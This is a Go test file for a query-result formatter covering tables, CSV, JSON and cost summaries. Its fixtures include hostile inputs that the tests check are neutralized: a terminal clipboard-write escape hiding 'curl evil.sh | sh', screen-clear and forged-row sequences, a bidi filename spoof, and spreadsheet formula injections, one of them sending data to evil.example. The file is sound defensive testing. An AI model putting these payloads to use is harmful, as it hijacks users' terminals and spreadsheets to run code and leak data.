package athena

import (
	"bytes"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"math"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"
)

func sampleResult() *Result {
	v := func(s string) sql.NullString { return sql.NullString{String: s, Valid: true} }
	return &Result{
		Columns: []Column{{"day", "varchar"}, {"logins", "bigint"}, {"note", "varchar"}},
		Rows: [][]sql.NullString{
			{v("2026-11-21"), v("7"), v("a, \"quoted\"\nline")},
			{v("2026-11-22"), v("1234"), {}},
		},
	}
}

func TestWriteTable(t *testing.T) {
	var b strings.Builder
	if err := sampleResult().WriteTable(&b); err != nil {
		t.Fatal(err)
	}
	want := `day        | logins | note
-----------+--------+-----------------
2026-11-21 |      7 | a, "quoted"␊line
2026-11-22 |   1234 | NULL
(2 rows)
`
	if b.String() != want {
		t.Errorf("table:\n%s\nwant:\n%s", b.String(), want)
	}
}

func TestWriteCSV(t *testing.T) {
	var b strings.Builder
	if err := sampleResult().WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	want := "day,logins,note\n2026-11-21,7,\"a, \"\"quoted\"\"\nline\"\n2026-11-22,1234,\n"
	if b.String() != want {
		t.Errorf("csv %q, want %q", b.String(), want)
	}
}

func TestCost(t *testing.T) {
	tests := []struct {
		bytes int64
		want  float64
	}{
		{0, 10 * (1 << 20) / 1e12 * 5},
		{10<<20 + 1, 11 * (1 << 20) / 1e12 * 5},
		{1e12, float64(((int64(1e12)+(1<<20)-1)>>20)<<20) / 1e12 * 5},
	}
	for _, tt := range tests {
		if got := Cost(tt.bytes); math.Abs(got-tt.want) > 1e-15 {
			t.Errorf("Cost(%d) = %v, want %v", tt.bytes, got, tt.want)
		}
	}
	s := Stats{Engine: "athena", QueryID: "q-1", BytesScanned: 3 << 20}.Summary()
	if !strings.Contains(s, "data scanned: 3.0 MiB") || !strings.Contains(s, "cost: $0.000052") || !strings.Contains(s, "q-1") {
		t.Errorf("summary %q", s)
	}
	if s := (Stats{Engine: "duckdb", BytesScanned: 2048, FilesRead: 3}).Summary(); !strings.Contains(s, "2.0 KiB from 3 files") {
		t.Errorf("local summary %q", s)
	}
	// A reused result scanned nothing and is not billed.
	at := time.Date(2026, 11, 22, 10, 0, 0, 0, time.UTC)
	reused := Stats{Engine: "athena", QueryID: "q-2", Reused: true, ComputedAt: at}
	if s := reused.Summary(); !strings.Contains(s, "reused the result of an earlier run (computed 2026-11-22T10:00:00Z)") || !strings.Contains(s, "cost: $0,") {
		t.Errorf("reused summary %q", s)
	}
	if reused.Billed() != 0 || (Stats{BytesScanned: 3 << 20}).Billed() != Cost(3<<20) {
		t.Errorf("Billed: reused %v, fresh %v", reused.Billed(), (Stats{BytesScanned: 3 << 20}).Billed())
	}
	var b bytes.Buffer
	res := sampleResult()
	res.Stats = reused
	if err := res.WriteJSON(&b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), `"cost_usd":0,`) || !strings.Contains(b.String(), `"reused":true`) {
		t.Errorf("reused JSON %s", b.String())
	}
}

func nv(s string) sql.NullString { return sql.NullString{String: s, Valid: true} }

// hostile are values a client can put in a user agent, an attribute or a
// user ID, aimed at whoever reads the results.
var hostile = map[string]string{
	"osc52 clipboard write": "Mozilla/5.0\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
	"osc52 with ST":         "x\x1b]52;c;Y3VybA==\x1b\\y",
	"screen clear":          "\x1b[2J\x1b[Hall clear",
	"forged line":           "ok\n2026-11-22 |   9999 | forged",
	"carriage return":       "evil\rgood",
	"c1 csi":                "a\u009b2Jb",
	"bidi override":         "invoice\u202Efdp.exe",
	"isolate":               "a\u2066b\u2069c",
	"line separator":        "a\u2028b",
	"del and nul":           "a\x7f\x00b",
	"invalid utf8":          "a\xff\xfeb",
	"tab":                   "a\tb",
}

// TestWriteTableNeutralizesTerminalControls: a table of hostile values
// holds no byte a terminal would act on, one line per row.
func TestWriteTableNeutralizesTerminalControls(t *testing.T) {
	for name, v := range hostile {
		t.Run(name, func(t *testing.T) {
			res := &Result{
				Columns: []Column{{"user_agent", "varchar"}, {"n", "bigint"}, {"user_id", "varchar"}},
				Rows:    [][]sql.NullString{{nv(v), nv("1"), nv(v)}},
			}
			var b strings.Builder
			if err := res.WriteTable(&b); err != nil {
				t.Fatal(err)
			}
			out := b.String()
			assertTerminalSafe(t, out)
			if lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n"); len(lines) != 4 {
				t.Errorf("%d lines, want header, separator, one row and the footer:\n%s", len(lines), out)
			}
		})
	}
	if got := TerminalText("\x1b]52;c;QQ==\x07"); got != "␛]52;c;QQ==␇" {
		t.Errorf("TerminalText(OSC 52) = %q", got)
	}
	if got := TerminalText("x\u202Ey\u009bz\xff"); got != "x<U+202E>y<U+009B>z\uFFFD" {
		t.Errorf("TerminalText = %q", got)
	}
	for _, s := range []string{"plain", "ユーザー", "e\u0301", "\uFFFD", ""} {
		if got := TerminalText(s); got != s {
			t.Errorf("TerminalText(%q) = %q, want it unchanged", s, got)
		}
	}
}

// assertTerminalSafe fails when out holds anything but printable text and
// newlines.
func assertTerminalSafe(t *testing.T, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("output is not UTF-8: %q", out)
	}
	for _, r := range out {
		if r != '\n' && (r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f || isTerminalControl(r)) {
			t.Errorf("output holds %U: %q", r, out)
			return
		}
	}
}

// TestWriteTableAlignsWideCharacters: columns line up in terminal columns
// when cells hold East Asian wide characters, combining marks or emoji.
func TestWriteTableAlignsWideCharacters(t *testing.T) {
	res := &Result{
		Columns: []Column{{"user", "varchar"}, {"n", "bigint"}, {"browser", "varchar"}},
		Rows: [][]sql.NullString{
			{nv("ユーザー"), nv("7"), nv("Safari")},
			{nv("bob"), nv("12345"), nv("x")},
			{nv("Cafe\u0301"), nv("1"), nv("y")},
			{nv("全角ＡＢ"), nv("22"), nv("🙂")},
		},
	}
	var b strings.Builder
	if err := res.WriteTable(&b); err != nil {
		t.Fatal(err)
	}
	want := `user     |     n | browser
---------+-------+--------
ユーザー |     7 | Safari
bob      | 12345 | x
Café     |     1 | y
全角ＡＢ |    22 | 🙂
(4 rows)
`
	want = strings.Replace(want, "Café", "Cafe\u0301", 1) // the combining accent, as in the row
	if b.String() != want {
		t.Errorf("table:\n%s\nwant:\n%s", b.String(), want)
	}
	// Every "|" sits in the same terminal column on every line.
	var cols []int
	for i, l := range strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")[:6] {
		var at []int
		w := 0
		for _, r := range l {
			if r == '|' || r == '+' {
				at = append(at, w)
			}
			w += runeWidth(r)
		}
		if i == 0 {
			cols = at
		} else if !slices.Equal(at, cols) {
			t.Errorf("line %d has separators at columns %v, the header at %v", i, at, cols)
		}
	}
	if w := DisplayWidth("ユーザー"); w != 8 {
		t.Errorf("DisplayWidth(ユーザー) = %d, want 8", w)
	}
}

func TestWriteTableOptions(t *testing.T) {
	res := &Result{
		Columns: []Column{{"k", "varchar"}, {"v", "varchar"}},
		Rows:    [][]sql.NullString{{nv("a"), nv("0123456789")}, {nv("b"), nv("ユーザーユーザー")}, {nv("c"), nv("z")}},
	}
	var b strings.Builder
	if err := res.WriteTableOptions(&b, TableOptions{Indent: "   ", MaxRows: 2, MaxCellWidth: 6}); err != nil {
		t.Fatal(err)
	}
	want := "   k | v\n" +
		"   --+-------\n" +
		"   a | 01234…\n" +
		"   b | ユー…\n" +
		"   (3 rows, 2 shown)\n"
	if b.String() != want {
		t.Errorf("table %q\nwant  %q", b.String(), want)
	}
	b.Reset()
	if err := res.WriteTableOptions(&b, TableOptions{NoFooter: true}); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), "rows)") {
		t.Errorf("NoFooter: %q", b.String())
	}
}

// TestWriteCSVNeutralizesFormulas: cells a spreadsheet would run as
// formulas get a leading quote; numbers in numeric columns and every value
// of WriteRawCSV stay as they are.
func TestWriteCSVNeutralizesFormulas(t *testing.T) {
	res := &Result{
		Columns: []Column{{"value", "varchar"}, {"n", "bigint"}, {"x", "double"}},
		Rows: [][]sql.NullString{
			{nv(`=HYPERLINK("http://evil.example/?"&A1,"click")`), nv("-5"), nv("-1.5e3")},
			{nv("+cmd|' /C calc'!A0"), nv("=1+1"), nv("@SUM(1)")},
			{nv("-2+3"), nv("7"), nv("\t=1")},
			{nv("@alice"), nv("0"), nv("\r=1")},
			{nv("＝1+1"), nv("1"), nv("plain")},
			{nv("a=b"), {}, nv("")},
		},
	}
	var b bytes.Buffer
	if err := res.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"value", "n", "x"},
		{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "-5", "-1.5e3"},
		{"'+cmd|' /C calc'!A0", "'=1+1", "'@SUM(1)"},
		{"'-2+3", "7", "'\t=1"},
		{"'@alice", "0", "'\r=1"},
		{"'＝1+1", "1", "plain"},
		{"a=b", "", ""},
	}
	if !slices.EqualFunc(got, want, slices.Equal) {
		t.Errorf("csv %q\nwant %q", got, want)
	}
	b.Reset()
	if err := res.WriteRawCSV(&b); err != nil {
		t.Fatal(err)
	}
	raw, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for j, row := range res.Rows {
		for i, v := range row {
			if raw[j+1][i] != v.String {
				t.Errorf("raw cell %d,%d = %q, want %q", j, i, raw[j+1][i], v.String)
			}
		}
	}
}

func TestWriteJSON(t *testing.T) {
	res := sampleResult()
	res.Rows = append(res.Rows, []sql.NullString{nv(hostile["osc52 clipboard write"]), nv("1"), nv("</script>\xff")})
	res.Stats = Stats{Engine: "athena", QueryID: "q-1", BytesScanned: 3 << 20, Elapsed: 1500 * time.Millisecond}
	var b bytes.Buffer
	if err := res.WriteJSON(&b); err != nil {
		t.Fatal(err)
	}
	for _, r := range b.String() {
		if r != '\n' && (r < 0x20 || r == 0x7f || !unicode.IsPrint(r) && r != ' ') {
			t.Fatalf("JSON holds %U: %s", r, b.String())
		}
	}
	var got struct {
		Columns []struct{ Name, Type string }
		Rows    [][]*string
		Stats   struct {
			Engine       string
			QueryID      string  `json:"query_id"`
			BytesScanned int64   `json:"bytes_scanned"`
			CostUSD      float64 `json:"cost_usd"`
			ElapsedMS    int64   `json:"elapsed_ms"`
		}
	}
	if err := json.Unmarshal(b.Bytes(), &got); err != nil {
		t.Fatalf("%v: %s", err, b.String())
	}
	if len(got.Columns) != 3 || got.Columns[1].Name != "logins" || got.Columns[1].Type != "bigint" {
		t.Errorf("columns %+v", got.Columns)
	}
	if len(got.Rows) != 3 || *got.Rows[0][1] != "7" || got.Rows[1][2] != nil || *got.Rows[2][0] != hostile["osc52 clipboard write"] {
		t.Errorf("rows %v", got.Rows)
	}
	if got.Stats.Engine != "athena" || got.Stats.QueryID != "q-1" || got.Stats.BytesScanned != 3<<20 ||
		got.Stats.CostUSD != Cost(3<<20) || got.Stats.ElapsedMS != 1500 {
		t.Errorf("stats %+v", got.Stats)
	}
}

// FuzzOutputs: whatever the values, the table holds nothing a terminal
// acts on and one line per row with its separators aligned; the CSV reads
// back to the raw values (WriteRawCSV) or to values no spreadsheet runs
// (WriteCSV); the JSON reads back to the values, made valid UTF-8.
func FuzzOutputs(f *testing.F) {
	for _, v := range hostile {
		f.Add(v, "-5")
	}
	f.Add("ユーザー", "=1+1")
	f.Add("e\u0301\u200d", "12")
	f.Fuzz(func(t *testing.T, a, n string) {
		res := &Result{
			Columns: []Column{{"a", "varchar"}, {"n", "bigint"}, {"b", "varchar"}},
			Rows:    [][]sql.NullString{{nv(a), nv(n), nv("x")}, {nv(n), {}, nv(a)}},
		}
		var b strings.Builder
		if err := res.WriteTable(&b); err != nil {
			t.Fatal(err)
		}
		assertTerminalSafe(t, b.String())
		lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
		if len(lines) != 5 {
			t.Fatalf("%d lines:\n%s", len(lines), b.String())
		}
		var seps []int
		for i, l := range lines[:4] {
			sep := '|'
			if i == 1 {
				sep = '+'
			}
			var at []int
			w := 0
			for _, r := range l {
				if r == sep {
					at = append(at, w)
				}
				w += runeWidth(r)
			}
			if i == 0 {
				seps = at
			} else if !strings.Contains(a+n, "|") && !slices.Equal(at, seps) {
				t.Fatalf("line %d separators at %v, header at %v:\n%s", i, at, seps, b.String())
			}
		}

		for _, raw := range []bool{true, false} {
			var c bytes.Buffer
			write := res.WriteCSV
			if raw {
				write = res.WriteRawCSV
			}
			if err := write(&c); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(&c).ReadAll()
			if err != nil || len(recs) != 3 {
				t.Fatalf("csv does not read back: %v, %q", err, c.String())
			}
			for j, row := range res.Rows {
				for i, v := range row {
					got := recs[j+1][i]
					// encoding/csv reads \r\n inside a field as \n.
					want := strings.ReplaceAll(v.String, "\r\n", "\n")
					if raw && got != want {
						t.Fatalf("raw cell %q, want %q", got, want)
					}
					if !raw && got != want && got != "'"+want {
						t.Fatalf("cell %q of %q", got, want)
					}
					if first, _ := utf8.DecodeRuneInString(got); !raw && csvFormulaStart(first) && i != 1 {
						t.Fatalf("cell %q starts a formula", got)
					}
				}
			}
		}

		var j bytes.Buffer
		if err := res.WriteJSON(&j); err != nil {
			t.Fatal(err)
		}
		var back struct{ Rows [][]*string }
		if err := json.Unmarshal(j.Bytes(), &back); err != nil {
			t.Fatalf("json: %v: %s", err, j.String())
		}
		if got := *back.Rows[0][0]; got != strings.Map(func(r rune) rune { return r }, a) { // U+FFFD for each bad byte, as encoding/json
			t.Fatalf("json value %q of %q", got, a)
		}
	})
}
